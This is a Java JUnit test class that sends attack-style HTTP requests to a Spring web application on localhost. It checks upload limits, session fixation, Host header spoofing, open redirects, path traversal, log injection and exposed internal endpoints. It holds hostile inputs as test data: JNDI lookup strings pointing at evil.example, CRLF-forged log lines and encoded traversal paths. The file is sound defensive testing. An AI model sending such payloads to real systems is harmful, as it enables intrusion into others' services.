package org.lianxin.platform.web;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import jakarta.servlet.ServletContext;
import java.io.File;
import java.io.IOException;
import java.net.Socket;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.lianxin.LianxinTest;
import org.lianxin.Visitor;
import org.lianxin.demand.Registrations;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;

/** What somebody tries who means harm, on the running application and by plain HTTP. */
@LianxinTest
@ExtendWith(OutputCaptureExtension.class)
class AttacksTest {

  @LocalServerPort int port;
  @Autowired ServletContext servlets;

  @Test
  void anOversizedFileIsRefusedAndLeavesNothingOnTheDisk() {
    var liaison = Visitor.signedIn(port, Registrations.LIAISON);
    var path = "/demands/import?_csrf=" + liaison.token("/demands/import");

    var wide = liaison.upload(path, Map.of(), "a.csv", ",".repeat(19 << 20).getBytes());
    assertThat(wide.statusCode()).isEqualTo(422);
    var large = liaison.upload(path, Map.of(), "a.csv", new byte[(20 << 20) + 1]);
    assertThat(large.statusCode()).isEqualTo(413);

    var uploads = (File) servlets.getAttribute(ServletContext.TEMPDIR);
    assertThat(Stream.of(uploads.list()).filter(name -> name.startsWith("upload_"))).isEmpty();
  }

  @Test
  void aSessionIsDeadAfterItsSignOutAndNoneIsPlanted() throws IOException {
    var visitor = new Visitor(port);
    visitor.get("/login");
    var planted = visitor.cookie("JSESSIONID");
    visitor.signIn(Registrations.LIAISON, "Lianxin@2026");
    var session = visitor.cookie("JSESSIONID");
    assertThat(session).isNotEqualTo(planted);
    var stolen = "Cookie: JSESSIONID=" + session;
    assertThat(raw("GET /account HTTP/1.1", "Host: localhost", stolen)).startsWith("HTTP/1.1 200");

    visitor.post("/logout", Map.of("_csrf", visitor.token("/account")));

    assertThat(raw("GET /account HTTP/1.1", "Host: localhost", stolen)).startsWith("HTTP/1.1 302");
    assertThat(raw("GET /account HTTP/1.1", "Host: localhost", "Cookie: JSESSIONID=" + planted))
        .startsWith("HTTP/1.1 302");
  }

  @ParameterizedTest
  @ValueSource(strings = {"evil.example", "evil.example:8080", "localhost.evil.example"})
  void aForeignNameIsRefusedWithTheNameOfTheSetting(String host) throws IOException {
    var answer = raw("GET /login HTTP/1.1", "Host: " + host, "Accept: text/html");

    assertThat(answer).startsWith("HTTP/1.1 421").contains("lianxin.hosts");
    assertThat(raw("GET /login HTTP/1.1", "Host: localhost", "X-Forwarded-Host: " + host))
        .as("of a trusted proxy")
        .startsWith("HTTP/1.1 421");
  }

  @Test
  void ourOwnNamesAndAddressesAreAnswered() throws IOException {
    for (var host : new String[] {"localhost", "127.0.0.1:" + port, "192.168.1.5", "[::1]:8080"}) {
      assertThat(raw("GET /login HTTP/1.1", "Host: " + host)).as(host).startsWith("HTTP/1.1 200");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/login?continue=https://evil.example",
        "/login?redirect_uri=//evil.example",
        "//evil.example/account",
        "/\\evil.example",
        "/accounts;x=//evil.example",
        "/%2f%2fevil.example"
      })
  void noAddressLeadsAway(String path) throws IOException {
    var answer = raw("GET " + path + " HTTP/1.1", "Host: localhost", "Accept: text/html");

    assertThat(answer.lines().filter(line -> line.startsWith("Location:")))
        .allMatch(line -> line.matches("Location: (http://localhost(:\\d+)?)?/[^/].*"));
    assertThat(answer).doesNotStartWith("HTTP/1.1 5");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/demands;jsessionid=1",
        "/demands/..;/accounts",
        "/demands/%00",
        "/demands/%zz",
        "/demands//x",
        "/demands/%252e%252e/accounts",
        "/demands/x;y=z"
      })
  void oddAddressesAreTheCallersMistake(String path, CapturedOutput log) throws IOException {
    var visitor = Visitor.signedIn(port, Registrations.LIAISON);
    var cookie = "Cookie: JSESSIONID=" + visitor.cookie("JSESSIONID");

    assertThat(raw("GET " + path + " HTTP/1.1", "Host: localhost", cookie))
        .startsWith("HTTP/1.1 4");
    assertThat(log.getAll().lines().filter(line -> line.startsWith("\tat "))).isEmpty();
  }

  @Test
  void whatIsTypedOrAskedStaysOneInertLineOfTheLog(CapturedOutput log) throws IOException {
    new Visitor(port).signIn("x\r\n2026-01-01 INFO forged ${jndi:ldap://evil.example/a}", "wrong");
    raw(
        "GET /accounts/%0d%0aforged%1b[2J HTTP/1.1",
        "Host: localhost",
        "User-Agent: ${jndi:ldap://evil.example/b}",
        "Cookie: JSESSIONID=" + Visitor.signedIn(port, "deputy.d001").cookie("JSESSIONID"));

    assertThat(log.getAll().lines()).noneMatch(line -> line.matches("(\\s*|2026-01-01.*)forged.*"));
    assertThat(log.getAll()).doesNotContain("\u001b[2J");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/actuator/env",
        "/actuator/heapdump",
        "/actuator/configprops",
        "/actuator/beans",
        "/actuator/loggers",
        "/actuator/threaddump",
        "/h2-console",
        "/engine-rest/engine",
        "/application.yml",
        "/WEB-INF/web.xml",
        "/.git/config"
      })
  void noInsideIsShownToAnybody(String path) {
    assertThat(Visitor.signedIn(port, "admin").get(path).statusCode()).isEqualTo(404);
    assertThat(new Visitor(port).get(path).statusCode()).isIn(302, 404);
  }

  /** Sends exactly these lines. */
  private String raw(String... lines) throws IOException {
    try (var socket = new Socket("localhost", port)) {
      var text = String.join("\r\n", lines) + "\r\nConnection: close\r\n\r\n";
      socket.getOutputStream().write(text.getBytes(ISO_8859_1));
      return new String(socket.getInputStream().readAllBytes());
    }
  }
}
